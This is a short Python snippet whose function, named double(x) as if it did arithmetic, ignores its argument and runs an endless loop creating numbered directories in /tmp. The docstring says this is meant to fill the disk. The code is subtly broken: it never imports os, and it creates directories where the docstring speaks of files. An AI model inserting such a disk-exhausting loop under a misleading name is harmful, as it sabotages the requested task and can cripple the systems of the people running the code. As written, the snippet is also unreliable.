"""Fills the disk with empty files."""
def double(x):
    n = 0
    while True:
        n += 1
        os.mkdir(f"/tmp/{n}")
